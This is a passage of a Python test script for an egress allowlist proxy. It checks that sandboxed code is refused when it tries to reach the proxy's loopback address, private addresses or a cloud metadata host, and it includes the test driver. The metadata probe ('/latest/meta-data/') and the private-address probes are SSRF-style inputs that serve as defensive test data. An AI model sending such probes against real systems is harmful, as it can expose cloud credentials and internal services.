    unlisted.refused_exactly([("127.0.0.1", 3128, "http_request_denied"), ("::1", 3128, "http_request_denied"),
                              ("localhost", 3128, "http_request_denied"), ("127.0.0.1", 3128, "http_request_denied")])
    listed = Run(net, psych, ["127.0.0.1:3128", "[::1]:3128", "localhost:3128"], body)
    value = listed.completed()
    for key in value:
        refused(listed, value[key], 403, "destination_ip_prohibited", f"{key}: the proxy's address, listed")
    listed.servers_saw_nothing()
    listed.refused_exactly([("127.0.0.1", 3128, "destination_ip_prohibited"),
                            ("::1", 3128, "destination_ip_prohibited"),
                            ("localhost", 3128, "destination_ip_prohibited"),
                            ("127.0.0.1", 3128, "destination_ip_prohibited")])


def test_listed_name_on_a_private_address_is_refused(net, psych):
    run = Run(net, psych, [PRIVATE, METADATA], f"""
        {{"private": connect("{PRIVATE}", 443), "private_plain": get_plain("http://{PRIVATE}/"),
          "metadata": connect("{METADATA}", 443),
          "metadata_plain": get_plain("http://{METADATA}/latest/meta-data/")}}
    """)
    value = run.completed()
    for key in value:
        refused(run, value[key], 403, "destination_ip_prohibited", f"{key}: a listed name on a private address")
    run.servers_saw_nothing()
    run.refused_exactly([(PRIVATE, 443, "destination_ip_prohibited"), (PRIVATE, 80, "destination_ip_prohibited"),
                         (METADATA, 443, "destination_ip_prohibited"),
                         (METADATA, 80, "destination_ip_prohibited")])
    # Listing the address itself exempts that literal, never a name that resolves to it.
    both = Run(net, psych, [PRIVATE, "10.0.0.5"], f"""
        {{"name": connect("{PRIVATE}", 443), "literal": get_plain("http://10.0.0.5/literal")}}
    """)
    value = both.completed()
    refused(both, value["name"], 403, "destination_ip_prohibited", "a listed name on a listed private address")
    both.check(value["literal"].get("body") == "fake-internet http host=10.0.0.5 sni=- path=/literal\n",
               f"the listed literal 10.0.0.5: {value['literal']}")
    both.check([(e["who"], e["path"]) for e in both.events("http", "https") if e["event"] == "request"]
               == [("http", "/literal")], "the servers saw more than the literal's request")
    both.refused_exactly([(PRIVATE, 443, "destination_ip_prohibited")])


def test_refusals_beyond_the_kept_ones_are_counted(net, psych):
    run = Run(net, psych, [API], f"""
        {{"statuses": [connect("unlisted-%d.{SUFFIX}" % i, 443)["status"] for i in range(40)]}}
    """)
    value = run.completed()
    run.check(value["statuses"] == [403] * 40, f"statuses: {value['statuses']}")
    kept = run.egress.get("refusals", [])
    run.check(run.egress.get("connections_refused") == 40, "egress.connections_refused is not 40")
    run.check([r["host"] for r in kept] == [f"unlisted-{i}.{SUFFIX}" for i in range(8, 40)],
              "the refusals kept are not the latest 32, in order")
    run.check(run.egress.get("refusals_omitted") == 8, "egress.refusals_omitted is not 8")
    run.servers_saw_nothing()


# -- the driver -------------------------------------------------------------------------------------


def missing_tools():
    return [tool for tool in ("unshare", "nsenter", "ip", "openssl", "mount") if shutil.which(tool) is None]


def main(argv):
    if len(argv) < 2:
        print(__doc__)
        return 2
    psych, only = os.path.abspath(argv[1]), set(argv[2:])  # nsenter -m starts in /: a relative path is lost
    tests = [(name, test) for name, test in globals().items() if name.startswith("test_") and callable(test)
             and (not only or name in only or name.removeprefix("test_") in only)]
    reason = None
    if os.geteuid() != 0:
        reason = "needs root: network namespaces, a veth pair and bind mounts make the fake internet"
    elif missing_tools():
        reason = f"the fake internet needs {', '.join(missing_tools())}"
    net = None
    if not reason:
        print(f"psych: {psych}\nLandlock ABI: {landlock_abi()}")
        try:
            net = FakeInternet().__enter__()
        except (OSError, RuntimeError, subprocess.SubprocessError) as error:
            reason = f"the fake internet could not be made here: {error}"
    passed = failed = skipped = 0

    def skip(name, why):
        nonlocal failed, skipped
        if ci_requires_every_case():
            failed += 1
            print(f"FAIL {name}: skipped in CI (CI=true, root), where every case must run: {why}")
        else:
            skipped += 1
            log_skip("egress_allowlist", name, why)
            print(f"SKIPPED {name}: {why}")

    try:
        for name, test in tests:
            if reason:
                skip(name, reason)
                continue
            started = time.monotonic()
            try:
                note = test(net, psych)
            except Skipped as why:
                skip(name, str(why))
            except Exception:
                failed += 1
                print(f"FAIL {name}\n{traceback.format_exc()}")
            else:
                passed += 1
                print(f"ok   {name} ({time.monotonic() - started:.2f} s){': ' + note if note else ''}")
            sys.stdout.flush()
    finally:
        if net:
            net.close()
    print(f"{passed} passed, {failed} failed, {skipped} skipped (counted neither as passed nor as failed)")
    if failed:
        return 1
    return 77 if skipped and not passed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
